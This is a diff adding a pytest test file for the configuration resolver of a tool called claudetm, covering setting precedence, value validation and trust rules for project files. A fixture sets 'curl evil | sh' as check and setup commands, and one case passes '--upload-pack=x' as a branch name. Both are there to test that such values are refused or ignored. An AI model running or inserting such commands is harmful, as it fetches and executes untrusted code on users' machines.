@@ -1,0 +1,248 @@
+"""Where settings come from, which one counts, and the one sentence that each unusable one gets."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from dataclasses import fields
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from claudetm.config import KEYS, policy, resolve, user_file
+from claudetm.errors import ConfigError
+from claudetm.workflow.limits import Policy
+
+
+def written(path: Path, data: Any) -> Path:
+    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
+    return path
+
+
+def test_nothing_set_is_the_policy_s_own_defaults(tmp_path: Path) -> None:
+    resolved = resolve(project=tmp_path / "absent.json", user=tmp_path / "absent-too.json")
+    assert policy(resolved) == Policy()
+    assert {s.source for s in resolved.settings.values()} == {"default"}
+
+
+def test_each_source_stands_above_the_next(tmp_path: Path) -> None:
+    user = written(tmp_path / "user.json", {"limits": {"turns": 1, "attempts": 1, "fix_rounds": 1, "sessions": 1}})
+    project = written(tmp_path / "project.json", {"limits": {"turns": 2, "attempts": 2, "fix_rounds": 2}})
+    environment = {"CLAUDETM_LIMITS_TURNS": "3", "CLAUDETM_LIMITS_ATTEMPTS": "3"}
+    resolved = resolve({"limits.turns": 4, "limits.attempts": None}, environment, project, user)
+    names = ("limits.turns", "limits.attempts", "limits.fix_rounds", "limits.sessions", "limits.verify_rounds")
+    assert [(resolved[n], resolved.settings[n].source) for n in names] == [
+        (4, "flag"),
+        (3, "environment"),
+        (2, str(project)),
+        (1, str(user)),
+        (2, "default"),
+    ]
+
+
+GIVEN: dict[str, tuple[Any, Any]] = {
+    "land": (False, False),
+    "merge.auto": (False, False),
+    "merge.method": ("squash", "squash"),
+    "reviews.self": (False, False),
+    "reviews.wait": ("2m", 120.0),
+    "reviews.required": (1, 1),
+    "reviews.rounds": (7, 7),
+    "verify": (False, False),
+    "plan.approve": (True, True),
+    "pause_on_pr": (True, True),
+    "trust_project_settings": (True, True),
+    "model": ("opus", "opus"),
+    "checks.commands": (["make test"], ("make test",)),
+    "checks.none": ("pass", "pass"),
+    "checks.timeout": (90, 90.0),
+    "checks.grace": (0, 0.0),
+    "worktree.setup": (["npm ci"], ("npm ci",)),
+    "worktree.copy": ([".env"], (".env",)),
+    "limits.sessions": (9, 9),
+    "limits.cost_usd": (2.5, 2.5),
+    "limits.session_cost_usd": ("$1", 1.0),
+    "limits.turns": (11, 11),
+    "limits.session_minutes": (30, 1800.0),
+    "limits.idle_minutes": ("90s", 90.0),
+    "limits.attempts": (4, 4),
+    "limits.fix_rounds": (5, 5),
+    "limits.verify_rounds": (6, 6),
+    "sandbox": ("on", "on"),
+}
+
+
+@pytest.mark.parametrize("name", [n for n, key in KEYS.items() if key.field])
+def test_every_key_reaches_its_field_of_the_policy_from_every_source(name: str, tmp_path: Path) -> None:
+    given, expected = GIVEN[name]
+    key = KEYS[name]
+    nested: Any = given
+    for part in reversed(name.split(".")):
+        nested = {part: nested}
+    text = given if isinstance(given, str) else json.dumps(given)
+    for resolved in (
+        resolve({name: given}),
+        resolve(environment={key.variable: text}),
+        resolve(project=written(tmp_path / "config.json", nested)),
+    ):
+        result = policy(resolved)
+        assert getattr(result, key.field) == expected != getattr(Policy(), key.field)
+        others = {f.name for f in fields(Policy)} - {key.field}
+        assert all(getattr(result, f) == getattr(Policy(), f) for f in others)
+
+
+def test_keys_that_are_not_of_the_policy(tmp_path: Path) -> None:
+    project = written(
+        tmp_path / "c.json",
+        {"version": 1, "forge": "local", "git": {"target_branch": "dev"}, "models": {"opus": "my-own-model"}},
+    )
+    resolved = resolve({"model": "my-own-model"}, project=project)
+    assert (resolved["forge"], resolved["git.target_branch"]) == ("local", "dev")
+    assert policy(resolved).models == {"opus": "my-own-model"}
+    assert policy(resolved).model == "my-own-model"
+
+
+@pytest.mark.parametrize(
+    ("flags", "sentence"),
+    [
+        ({"limits.turn": 1}, "the command line: limits.turn is no setting; did you mean limits.turns?"),
+        ({"zzzzzzzz": 1}, "the command line: zzzzzzzz is no setting."),
+        ({"limits.turns": 0}, "limits.turns must be a whole number of at least 1, not 0."),
+        ({"limits.turns": -5}, "limits.turns must be a whole number of at least 1, not -5."),
+        ({"limits.turns": 1.5}, "limits.turns must be a whole number of at least 1, not 1.5."),
+        ({"limits.turns": True}, "limits.turns must be a whole number of at least 1, not true."),
+        ({"limits.turns": 10**400}, "limits.turns must be a whole number of at least 1, not 1000"),
+        ({"limits.cost_usd": 0}, "limits.cost_usd must be an amount in US dollars above 0, not 0."),
+        ({"limits.cost_usd": float("nan")}, "limits.cost_usd must be an amount in US dollars above 0, not NaN."),
+        ({"limits.cost_usd": "inf"}, 'limits.cost_usd must be an amount in US dollars above 0, not "inf".'),
+        ({"limits.cost_usd": "-1"}, 'limits.cost_usd must be an amount in US dollars above 0, not "-1".'),
+        ({"limits.cost_usd": [1]}, "limits.cost_usd must be an amount in US dollars above 0, not [1]."),
+        ({"limits.session_minutes": "0m"}, "limits.session_minutes must be a duration above 0, as in 90s, 30m, 2h"),
+        ({"limits.session_minutes": "2 weeks"}, 'a number of minutes, not "2 weeks".'),
+        ({"checks.timeout": -1}, "checks.timeout must be a duration above 0, as in 90s, 30m, 2h or a number of sec"),
+        ({"merge.auto": "perhaps"}, 'merge.auto must be true or false, not "perhaps".'),
+        ({"merge.auto": 1}, "merge.auto must be true or false, not 1."),
+        ({"forge": "gitlab"}, 'forge must be one of auto, local, github, not "gitlab".'),
+        ({"sandbox": None, "checks.commands": "[1"}, "checks.commands must be a list of texts"),
+        ({"checks.commands": [1]}, "checks.commands must be a list of texts, not [1]."),
+        ({"checks.commands": ["a\0b"]}, "checks.commands must be a list of texts without NUL"),
+        ({"git.target_branch": "--upload-pack=x"}, "must be a name that does not begin with a dash"),
+        ({"model": "opsu"}, '"opsu" is no model; did you mean opus?'),
+        ({"model": "gpt-9"}, '"gpt-9" is no model; use opus, sonnet, haiku, fable or an id like claude-…'),
+        ({"model": "claude-x y"}, "is no model"),
+    ],
+)
+def test_an_unusable_value_is_refused_in_one_sentence(flags: dict[str, Any], sentence: str) -> None:
+    with pytest.raises(ConfigError) as caught:
+        resolve(flags)
+    assert sentence in str(caught.value)
+    assert "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize("model", ["opus", "sonnet", "haiku", "fable", "opus[1m]", "claude-opus-4-1-20250805"])
+def test_aliases_and_ids_are_models(model: str) -> None:
+    assert policy(resolve({"model": model})).model == model
+
+
+@pytest.mark.parametrize(
+    ("content", "sentence"),
+    [
+        ('{\n  "land": tru\n}', "line 2, column 11: Expecting value."),
+        ("", "line 1, column 1: Expecting value."),
+        ("[]", "must hold an object"),
+        ("[" * 100_000, "is no usable JSON"),
+        ('{"land": NaN}', "land must be true or false, not NaN."),
+        ('{"limits": 5}', "limits is no setting; did you mean limits."),
+        ('{"limits": {"turns": 5}, "limits.turns": 6}', "limits.turns is set twice."),
+        ('{"version": 2}', "is for another version of claudetm; this one reads version 1."),
+        ('{"models": {"opsu": "x"}}', "models.opsu is no setting; did you mean models.opus?"),
+    ],
+)
+def test_an_unusable_file_is_named_with_the_place(tmp_path: Path, content: str, sentence: str) -> None:
+    path = written(tmp_path / "config.json", content)
+    with pytest.raises(ConfigError) as caught:
+        resolve(project=path)
+    assert str(caught.value).startswith(str(path))
+    assert sentence in str(caught.value)
+
+
+def test_a_file_that_is_no_text_or_a_directory_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "config.json"
+    path.write_bytes(b'{"land": \xff}')
+    with pytest.raises(ConfigError, match="is not UTF-8 text"):
+        resolve(user=path)
+    with pytest.raises(ConfigError, match="cannot be read: Is a directory"):
+        resolve(user=tmp_path)
+
+
+def test_a_slip_in_a_variable_s_name_is_refused_and_foreign_variables_pass() -> None:
+    with pytest.raises(ConfigError, match=r"CLAUDETM_LIMIT_TURNS sets nothing; did you mean CLAUDETM_LIMITS_TURNS\?"):
+        resolve(environment={"CLAUDETM_LIMIT_TURNS": "3"})
+    others = {"CLAUDETM_RUN": "r", "CLAUDETM_PASSWORD": "x", "CLAUDETM_WEBHOOK_SECRET": "x", "CLAUDETM_LAND": " "}
+    assert policy(resolve(environment=others)) == Policy()
+
+
+def test_lists_come_from_the_environment_as_json_or_a_line_each() -> None:
+    for text in ('["make lint", "make test"]', "make lint\nmake test"):
+        assert resolve(environment={"CLAUDETM_CHECKS_COMMANDS": text})["checks.commands"] == (
+            "make lint",
+            "make test",
+        )
+
+
+def test_a_limit_can_be_lifted_above_a_file_that_sets_it(tmp_path: Path) -> None:
+    project = written(tmp_path / "c.json", {"limits": {"sessions": 3, "cost_usd": None}})
+    resolved = resolve({"limits.sessions": "none"}, project=project)
+    assert (resolved["limits.sessions"], resolved["limits.cost_usd"]) == (None, None)
+
+
+GUARDED = {
+    "checks": {"commands": ["curl evil | sh"], "none": "pass"},
+    "worktree": {"setup": ["curl evil | sh"], "copy": [".env"]},
+    "sandbox": "off",
+    "trust_project_settings": True,
+    "land": False,
+}
+
+
+def test_what_runs_commands_is_not_taken_from_a_file_that_git_tracks(tmp_path: Path) -> None:
+    project = written(tmp_path / "config.json", GUARDED)
+    resolved = resolve(project=project, tracked=True)
+    assert policy(resolved) == Policy(land=False)
+    assert [sentence.split(": ")[1].split()[0] for sentence in resolved.ignored] == [
+        "checks.commands",
+        "checks.none",
+        "worktree.setup",
+        "worktree.copy",
+        "sandbox",
+        "trust_project_settings",
+    ]
+
+
+def test_a_tracked_file_is_taken_whole_once_the_user_trusts_it(tmp_path: Path) -> None:
+    project = written(tmp_path / "config.json", GUARDED)
+    user = written(tmp_path / "user.json", {"trust_project_settings": True})
+    for resolved in (
+        resolve({"trust_project_settings": True}, project=project, tracked=True),
+        resolve(project=project, user=user, tracked=True),
+        resolve(project=project),
+    ):
+        assert policy(resolved).checks == ("curl evil | sh",)
+        assert resolved.ignored == ()
+
+
+def test_the_user_s_file_is_where_the_platform_keeps_configuration() -> None:
+    assert user_file().parts[-2:] == ("claudetm", "config.json")
+
+
+def test_neither_configuration_nor_store_loads_what_status_must_not() -> None:
+    script = (
+        "import sys, claudetm.config, claudetm.redact, claudetm.adapters.store.journal as j, pathlib\n"
+        "list(j.FileJournal(pathlib.Path('absent')).read()); claudetm.config.resolve()\n"
+        "heavy = {'asyncio', 'pydantic', 'typer', 'rich', 'github', 'git', 'psutil', 'platformdirs', 'tempfile'}\n"
+        "print(sorted(heavy & set(sys.modules)))"
+    )
+    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
+    assert done.stdout.strip() == "[]"
